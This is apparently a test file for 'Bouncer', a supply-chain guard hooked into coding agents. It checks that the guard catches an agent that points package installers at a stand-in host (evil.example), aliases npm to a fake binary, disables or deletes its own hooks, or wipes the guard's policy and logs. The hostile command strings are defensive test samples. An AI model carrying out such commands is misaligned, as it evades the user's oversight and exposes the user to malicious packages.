// An agent that steers the gate instead of passing it: it chooses another registry on the command line
// or in the environment, writes the user's registry configuration with `config set`, edits Bouncer's
// trusted policy or data, or turns its own hook off. Each is the user's decision: asked where the
// agent can ask (Claude Code), refused where it cannot (Codex), and logged.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { commandChanges, mayNameGuard, shellEnvSettings } from "../../../src/doors/hooks/command-changes.ts";
import { mayChangeDependencies } from "../../../src/doors/hooks/fast.ts";
import { guardedPaths } from "../../../src/doors/hooks/guarded.ts";
import { matcherCovers } from "../../../src/doors/hooks/install.ts";
import { needsJudging } from "../../../src/doors/hooks/triage.ts";
import { INSTALL_TOOLS } from "../../../src/ecosystems/installers.ts";
import { splitShellCommands } from "../../../src/extract/shell.ts";
import { readEntries } from "../../../src/ledger/ledger.ts";
import { type CliEnv, startCliEnv } from "../../support/cli-env.ts";
import { cli } from "../cli/run.ts";

const settingsOf = (line: string) => commandChanges(splitShellCommands(line)).registry.map((r) => r.setting);

test("the registry settings a command line chooses, per installer", () => {
  const cases: Array<[string, string[]]> = [
    ["npm install --registry https://evil.example/ left-pad", ["--registry=https://evil.example/"]],
    ["npm i --registry=https://evil.example/ x", ["--registry=https://evil.example/"]],
    ["pnpm add --@corp:registry=https://evil.example/ @corp/x", ["--@corp:registry=https://evil.example/"]],
    ["npm install --userconfig ./npmrc x", ["--userconfig=./npmrc"]],
    ["npm config set registry https://evil.example/", ["registry=https://evil.example/"]],
    ["npm config set --location=user @corp:registry=https://evil.example/", ["@corp:registry=https://evil.example/"]],
    ["npm set registry https://evil.example/", ["registry=https://evil.example/"]],
    ["yarn config set npmRegistryServer https://evil.example", ["npmRegistryServer=https://evil.example"]],
    ["pip install -i https://evil.example/simple requests", ["-i=https://evil.example/simple"]],
    ["python3 -m pip install -ihttps://evil.example/simple requests", ["-i=https://evil.example/simple"]],
    ["pip install --extra-index-url=https://evil.example/simple requests", ["--extra-index-url=https://evil.example/simple"]],
    ["uv pip install --index corp=https://evil.example/simple x", ["--index=corp=https://evil.example/simple"]],
    ["pip config set global.index-url https://evil.example/simple", ["global.index-url=https://evil.example/simple"]],
    ["pip config --user set global.extra-index-url https://evil.example/simple", ["global.extra-index-url=https://evil.example/simple"]],
    ["poetry source add evil https://evil.example/simple", ["evil=https://evil.example/simple"]],
    ["poetry config repositories.evil https://evil.example/simple", ["repositories.evil=https://evil.example/simple"]],
    // Variables set for one command, for a shell it starts, or exported for the rest.
    ["npm_config_registry=https://evil.example/ npm install left-pad", ["npm_config_registry=https://evil.example/"]],
    ["env 'npm_config_@corp:registry=https://evil.example/' npm install @corp/x", ["npm_config_@corp:registry=https://evil.example/"]],
    ["PIP_INDEX_URL=https://evil.example/simple bash -c 'pip install requests'", ["PIP_INDEX_URL=https://evil.example/simple"]],
    ["export UV_INDEX_URL=https://evil.example/simple", ["UV_INDEX_URL=https://evil.example/simple"]],
  ];
  for (const [line, expected] of cases) assert.deepEqual(settingsOf(line), expected, line);
  // What chooses no registry: ordinary installs and configuration, other tools' -i.
  for (const line of ["npm install left-pad", "npm config get registry", "npm config set save-exact true", "pip install requests", "sed -i s/a/b/ x.txt", "FOO=1 npm test", "export PATH=/x:$PATH", "pip config list"]) {
    assert.deepEqual(settingsOf(line), [], line);
  }
});

test("Bouncer's own variables and the bouncer commands that lower the guard", () => {
  const guard = (line: string) => commandChanges(splitShellCommands(line)).guard.map((g) => g.how);
  assert.deepEqual(guard("BOUNCER_POLICY=/tmp/p.json npm install x"), ["sets BOUNCER_POLICY"]);
  assert.deepEqual(guard("export BOUNCER_HOME=/tmp/elsewhere"), ["sets BOUNCER_HOME"]);
  assert.deepEqual(guard("bouncer agents uninstall --agent claude"), ["runs `bouncer agents uninstall --agent claude`"]);
  assert.deepEqual(guard("npx bouncer waiver add npm:evil-pkg --reason x"), ["runs `npx bouncer waiver add npm:evil-pkg --reason x`"]);
  assert.deepEqual(guard("node bin/bouncer.js index build --npm fake.tsv.gz"), ["runs `node bin/bouncer.js index build --npm fake.tsv.gz`"]);
  for (const line of ["bouncer check left-pad", "bouncer doctor", "bouncer waiver list", "bouncer audit verify", "bouncer agents"]) assert.deepEqual(guard(line), [], line);
});

test("the guard's own files: policy, data, log key, every agent's hook settings (project and user), managed files", () => {
  const g = guardedPaths({
    cwd: "/p",
    home: "/h",
    env: { CODEX_HOME: "/codex" },
    policyFiles: ["/etc/bouncer/policy.json", "/h/.config/bouncer/policy.json"],
    dataDir: "/h/.cache/bouncer",
    logKeyFile: "/keys/bouncer.key",
  });
  for (const file of [
    "/h/.config/bouncer/policy.json",
    "/etc/bouncer/policy.json",
    "/h/.cache/bouncer/log.jsonl",
    "/keys/bouncer.key",
    "/p/.claude/settings.json",
    "/p/.claude/settings.local.json",
    "/p/sub/.claude/settings.json",
    "/h/.claude/settings.json",
    "/p/.codex/config.toml",
    "/codex/hooks.json",
    "/p/.gemini/settings.json",
    "/p/.github/hooks/other.json",
    "/h/.copilot/hooks/bouncer.json",
    "/p/.cursor/hooks.json",
    "/h/.codeium/windsurf/hooks.json",
    "/etc/claude-code/managed-settings.json",
  ]) {
    assert.ok(g.describe(file), file);
  }
  for (const file of ["/p/package.json", "/p/.claude/commands/x.md", "/p/.github/workflows/ci.yml", "/h/.config/other/policy.json", "/p/bouncer.policy.json"]) {
    assert.equal(g.describe(file), undefined, file);
  }
  for (const dir of ["/h", "/h/.cache", "/p/.claude", "/", "/p/.github"]) assert.ok(g.underneath(dir), dir);
  for (const dir of ["/p/node_modules", "/p/src"]) assert.equal(g.underneath(dir), undefined, dir);
});

test("the fast path and the triage send every such command to the judge", () => {
  for (const line of [
    "npm config set registry https://evil.example/",
    "export PIP_INDEX_URL=https://evil.example/simple",
    "BOUNCER_POLICY=/tmp/p.json ls",
    "bouncer agents uninstall",
    "rm -rf ~/.cache/bouncer",
    "rm .claude/settings.local.json",
    "mv .claude /tmp/",
    "echo '{}' > .claude/settings.local.json",
    "truncate -s 0 ~/.cache/bouncer/log.jsonl",
  ]) {
    assert.ok(mayChangeDependencies(line), line);
    assert.ok(needsJudging(line), line);
  }
  assert.ok(needsJudging("rm /data/b/log.jsonl", { BOUNCER_HOME: "/data/b" }));
  // Every installer Bouncer knows gets past the fast path to the grammar.
  for (const tool of INSTALL_TOOLS) assert.ok(mayChangeDependencies(`${tool} install x`), tool);
  assert.ok(!needsJudging("rm build.log"));
  // A recursive removal goes to the judge only where it may reach the guard's files.
  assert.ok(!needsJudging("rm -rf node_modules dist build/tmp"));
  for (const line of ["rm -rf .", "rm -rf ../other", "rm -rf /tmp/x", "rm -rf ~/.cache", "rm -rf *", "rm -rf $DIR"]) assert.ok(needsJudging(line), line);
  assert.ok(!needsJudging("git status && ls"));
  assert.ok(mayNameGuard("/home/u/.claude/settings.json") && !mayNameGuard("src/app.ts"));
});

// End to end, through the hook.
let env: CliEnv;
let dir: string;
let home: string;
before(async () => {
  env = await startCliEnv();
  home = env.env.HOME!;
  dir = mkdtempSync(path.join(tmpdir(), "guard-changes-"));
  writeFileSync(path.join(dir, "package.json"), '{ "name": "demo", "version": "1.0.0", "dependencies": {} }\n');
  mkdirSync(path.join(dir, ".claude"));
  writeFileSync(path.join(dir, ".claude", "settings.json"), '{ "hooks": {} }\n');
});
after(() => env.server.close());

async function hook(agent: "claude" | "codex", toolInput: Record<string, unknown>, tool = "Bash") {
  const stdin = JSON.stringify({ session_id: "s", cwd: dir, hook_event_name: "PreToolUse", tool_name: tool, tool_input: toolInput });
  const run = await cli(["hook", agent], { ...env.env, BOUNCER_OFFLINE: "1" }, { stdin, cwd: dir });
  assert.equal(run.code, 0, run.stderr);
  if (!run.stdout) return { decision: "allow", reason: "" };
  const out = JSON.parse(run.stdout) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } };
  return { decision: out.hookSpecificOutput.permissionDecision, reason: out.hookSpecificOutput.permissionDecisionReason };
}

test("hook: a registry chosen on the command line or in the environment is asked in Claude Code and refused in Codex", async () => {
  for (const command of ["npm install --registry https://evil.example/", "npm config set registry https://evil.example/", "export PIP_INDEX_URL=https://evil.example/simple"]) {
    const claude = await hook("claude", { command });
    assert.equal(claude.decision, "ask", `${command}: ${claude.reason}`);
    assert.match(claude.reason, /REGISTRY: the command sets `[^`]*evil\.example/, command);
    assert.match(claude.reason, /the user's decision/, command);
    const codex = await hook("codex", { command });
    assert.equal(codex.decision, "deny", `${command}: ${codex.reason}`);
  }
});

test("hook: edits, writes and removals of Bouncer's policy, data and the agent's hook settings are the user's; other files pass", async () => {
  const policy = path.join(home, ".config", "bouncer", "policy.json");
  const calls: Array<[Record<string, unknown>, string, RegExp]> = [
    [{ file_path: policy, content: '{ "allow": ["*"] }' }, "Write", /Bouncer's trusted policy\): this call changes it/],
    [{ file_path: path.join(dir, ".claude", "settings.local.json"), content: '{ "disableAllHooks": true }' }, "Write", /Claude Code's settings/],
    [{ file_path: path.join(dir, ".claude", "settings.json"), old_string: '"hooks": {}', new_string: '"hooks": null' }, "Edit", /Claude Code's settings/],
    [{ command: `rm -rf ${env.env.BOUNCER_HOME}` }, "Bash", /Bouncer's data .*removes it with rm/],
    [{ command: "echo '{}' > .claude/settings.local.json" }, "Bash", /settings\.local\.json \(Claude Code's settings, where Bouncer's hook is declared\): this call writes it/],
    [{ command: "bouncer agents uninstall" }, "Bash", /this command runs `bouncer agents uninstall`/],
  ];
  for (const [input, tool, reason] of calls) {
    const answer = await hook("claude", input, tool);
    assert.equal(answer.decision, "ask", `${JSON.stringify(input)}: ${answer.reason}`);
    assert.match(answer.reason, reason);
    assert.match(answer.reason, /the user's to change/);
    // Codex has no ask: refused (its file tool is apply_patch; its shell, Bash).
    if (tool === "Bash") assert.equal((await hook("codex", input, tool)).decision, "deny");
  }
  // Codex's patch tool: a patch that deletes the project's Codex hooks is refused.
  const patch = "*** Begin Patch\n*** Delete File: .codex/hooks.json\n*** End Patch\n";
  const codexPatch = await hook("codex", { command: patch }, "apply_patch");
  assert.equal(codexPatch.decision, "deny", codexPatch.reason);
  assert.match(codexPatch.reason, /\.codex\/hooks\.json \(OpenAI Codex CLI's settings, where Bouncer's hook is declared\): this call removes it/);
  // Logged, with door agent.
  const logged = readEntries(env.env.BOUNCER_HOME!).map((l) => JSON.parse(l) as { door: string; name: string; verdict: string });
  assert.ok(logged.some((e) => e.door === "agent" && e.name.endsWith("policy.json") && e.verdict === "warn"));
  // Ordinary files and commands are not the guard's.
  assert.deepEqual(await hook("claude", { file_path: path.join(dir, "README.md"), content: "hello" }, "Write"), { decision: "allow", reason: "" });
  assert.deepEqual(await hook("claude", { command: "rm -rf node_modules dist && npm test" }), { decision: "allow", reason: "" });
});

test("installs hidden behind xargs, find -exec, watch, parallel, a piped or substituted script, or a program or subcommand named at run time are judged or refused", async () => {
  const cases: Array<[string, RegExp]> = [
    ["echo expresss | xargs npm install", /only known when the command runs|cannot tell/],
    ["parallel npm install ::: expresss", /only known when the command runs|cannot tell/],
    ["find . -name x -exec npm install expresss \\;", /expresss/],
    ["watch -n 5 npm install expresss", /expresss/],
    ['echo "npm install expresss" | sh', /expresss/],
    ["source <(echo npm install expresss)", /expresss/],
    ["P=npm; $P install expresss", /runs a program named only when it runs/],
    ["$(which npm) install expresss", /runs a program named only when it runs/],
    ["$PYTHON -m pip install reqeusts", /runs a program named only when it runs/],
    ["x=install; npm $x expresss", /gives npm a command known only when it runs/],
  ];
  for (const [command, reason] of cases) {
    assert.ok(needsJudging(command), command);
    const answer = await hook("codex", { command });
    assert.notEqual(answer.decision, "allow", command);
    assert.match(answer.reason, reason, command);
  }
  // Ordinary uses of the same shapes pass.
  for (const command of ["git ls-files | xargs grep TODO", "find . -name '*.log' -exec rm {} +", "$PYTHON script.py", '"$EDITOR" notes.md', "npm run $SCRIPT", "source <(kubectl completion bash)", "curl -fsSL https://example.com/x.sh | bash"]) {
    assert.deepEqual(await hook("codex", { command }), { decision: "allow", reason: "" }, command);
  }
});

test("shell startup files and .envrc: registry and Bouncer variables, and installers shadowed by an alias or function, are registry settings", async () => {
  const text = [
    "export PATH=$HOME/bin:$PATH",
    "export npm_config_registry=https://evil.example/",
    "PIP_INDEX_URL=https://evil.example/simple",
    "set -gx UV_INDEX_URL https://evil.example/simple",
    "export BOUNCER_POLICY=/tmp/p.json",
    "alias npm='/tmp/evil/npm'",
    "pip() { /tmp/evil/pip \"$@\"; }",
    "alias ll='ls -l'",
    "export EDITOR=vim",
  ].join("\n");
  assert.deepEqual(shellEnvSettings(text), [
    "export npm_config_registry=https://evil.example/",
    "PIP_INDEX_URL=https://evil.example/simple",
    "set -gx UV_INDEX_URL https://evil.example/simple",
    "export BOUNCER_POLICY=/tmp/p.json",
    "alias npm='/tmp/evil/npm'",
    'pip() { /tmp/evil/pip "$@"; }',
  ]);
  // Through the hook: a write to the user's ~/.bashrc (outside the project), and to the project's .envrc.
  const bashrc = await hook("claude", { command: "echo 'export npm_config_registry=https://evil.example/' >> ~/.bashrc" });
  assert.equal(bashrc.decision, "ask", bashrc.reason);
  assert.match(bashrc.reason, /\.bashrc gets `export npm_config_registry=https:\/\/evil\.example\/`/);
  const envrc = await hook("claude", { file_path: path.join(dir, ".envrc"), content: "export PIP_INDEX_URL=https://evil.example/simple\n" }, "Write");
  assert.equal(envrc.decision, "ask", envrc.reason);
  assert.deepEqual(await hook("claude", { command: "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc" }), { decision: "allow", reason: "" });
});

test("an MCP filesystem server's writes are judged as the agent's own edits, and Bouncer's Claude matcher selects them", async () => {
  const manifest = path.join(dir, "package.json");
  const write = await hook("claude", { path: manifest, content: '{ "name": "demo", "version": "1.0.0", "dependencies": { "reactt": "19.2.0" } }\n' }, "mcp__filesystem__write_file");
  assert.equal(write.decision, "deny", write.reason);
  assert.match(write.reason, /reactt/);
  writeFileSync(path.join(dir, "requirements.txt"), "requests==2.31.0\n");
  const edit = await hook("claude", { path: path.join(dir, "requirements.txt"), edits: [{ oldText: "requests==2.31.0", newText: "requests==2.31.0\nreqeusts" }] }, "mcp__fs__edit_file");
  assert.equal(edit.decision, "deny", edit.reason);
  assert.match(edit.reason, /reqeusts/);
  assert.deepEqual(await hook("claude", { path: path.join(dir, "NOTES.md"), content: "hello" }, "mcp__filesystem__write_file"), { decision: "allow", reason: "" });
  // A malformed one is refused, never passed.
  assert.equal((await hook("claude", { path: manifest, edits: "nope" }, "mcp__filesystem__edit_file")).decision, "deny");
  // Other MCP tools pass at once.
  assert.deepEqual(await hook("claude", { path: manifest }, "mcp__filesystem__read_file"), { decision: "allow", reason: "" });
  const matcher = "Bash|Write|Edit|MultiEdit|NotebookEdit|mcp__.*__write_file|mcp__.*__edit_file";
  for (const tool of ["mcp__filesystem__write_file", "mcp__my-fs__edit_file", "Bash", "Write"]) assert.equal(matcherCovers(matcher, tool, "claude"), "yes", tool);
  assert.equal(matcherCovers(matcher, "mcp__filesystem__read_file", "claude"), "no");
});
